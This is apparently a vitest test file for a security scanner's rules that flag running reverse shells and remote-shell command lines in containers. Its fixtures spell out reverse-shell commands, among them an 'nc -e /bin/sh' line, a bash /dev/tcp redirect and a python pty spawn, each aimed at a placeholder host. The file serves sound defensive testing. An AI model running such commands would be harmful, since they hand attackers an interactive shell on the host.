/**
 * A running reverse or bind shell: a command interpreter whose standard input and output are
 * a network connection (what `nc -e /bin/sh` leaves: the command line says only `/bin/sh`),
 * and a command line that is itself a remote shell.
 */
import { describe, expect, it } from 'vitest';
import { evaluateProcess } from '../../src/findings/process-rules.js';
import type { ProcessRecord, SocketRecord } from '../../src/report/process.js';

const context = {
  written: new Set<string>(),
  exposedPorts: new Set<string>(),
  engineOwned: new Set<number>(),
};

const process_ = (over: Partial<ProcessRecord>): ProcessRecord => ({
  pid: 4242,
  ppid: 1,
  name: 'sh',
  commandLine: ['/bin/sh'],
  uid: 33,
  gid: 33,
  exe: { path: '/bin/busybox', isDeleted: false, image: 'same' },
  isFromExec: false,
  loaderEnv: [],
  mappedFiles: [],
  deletedOpenFiles: [],
  sockets: [],
  findings: [],
  ...over,
});

const connection = (stdio?: number[]): SocketRecord => ({
  protocol: 'tcp',
  state: 'established',
  local: '172.17.0.2:41234',
  remote: '203.0.113.7:4444',
  isRemotePublic: true,
  ...(stdio ? { stdio } : {}),
});

const rules = (p: ProcessRecord) =>
  evaluateProcess(p, context).map((f) => [f.rule, f.severity, f.attack] as const);

describe('running remote shells', () => {
  it('calls a shell reading and writing a network connection a reverse shell, whatever its command line', () => {
    expect(rules(process_({ sockets: [connection([0, 1, 2])] }))).toContainEqual([
      'process-shell-on-network',
      'critical',
      'T1059',
    ]);
  });

  it('names a Python interpreter so wired by its command line too', () => {
    const found = evaluateProcess(
      process_({
        exe: { path: '/usr/bin/python3.11', isDeleted: false, image: 'same' },
        commandLine: ['python3', '-c', 'import pty; pty.spawn("/bin/sh")'],
        sockets: [connection([0, 1])],
      }),
      context,
    ).find((f) => f.rule === 'process-shell-on-network');
    expect(found?.severity).toBe('critical');
    expect(found?.reason).toMatch(/to 203\.0\.113\.7:4444/);
  });

  it('ranks any other program whose input and output are a connection high, not critical', () => {
    expect(
      rules(
        process_({
          exe: { path: '/usr/sbin/in.tftpd', isDeleted: false, image: 'same' },
          commandLine: ['in.tftpd'],
          sockets: [connection([0, 1])],
        }),
      ),
    ).toContainEqual(['process-shell-on-network', 'high', 'T1059']);
  });

  it("ranks busybox's other applets started from such a shell high, not as interpreters", () => {
    expect(
      rules(process_({ commandLine: ['sleep', '30'], sockets: [connection([0, 1, 2])] })),
    ).toContainEqual(['process-shell-on-network', 'high', 'T1059']);
  });

  it('leaves a shell alone that only holds a connection, or whose streams are a local socket', () => {
    for (const sockets of <SocketRecord[][]>[
      [connection()],
      [connection([2])],
      [{ protocol: 'unix', state: 'established', local: '/run/app.sock', stdio: [0, 1] }],
    ])
      expect(rules(process_({ sockets })).map(([rule]) => rule)).not.toContain(
        'process-shell-on-network',
      );
  });

  it('calls a command line that is a remote shell one', () => {
    expect(
      rules(process_({ commandLine: ['nc', '203.0.113.7', '4444', '-e', '/bin/sh'] })),
    ).toContainEqual(['process-remote-shell-command', 'critical', 'T1059.004']);
    expect(
      rules(process_({ commandLine: ['bash', '-c', 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'] })),
    ).toContainEqual(['process-remote-shell-command', 'critical', 'T1059.004']);
  });

  it('leaves ordinary command lines alone', () => {
    for (const commandLine of [
      ['nc', '-z', 'db', '5432'],
      ['sh', '-c', 'until nc -z db 5432; do sleep 1; done; exec php-fpm'],
      ['python3', '-m', 'http.server', '8000'],
    ])
      expect(rules(process_({ commandLine })).map(([rule]) => rule)).not.toContain(
        'process-remote-shell-command',
      );
  });
});
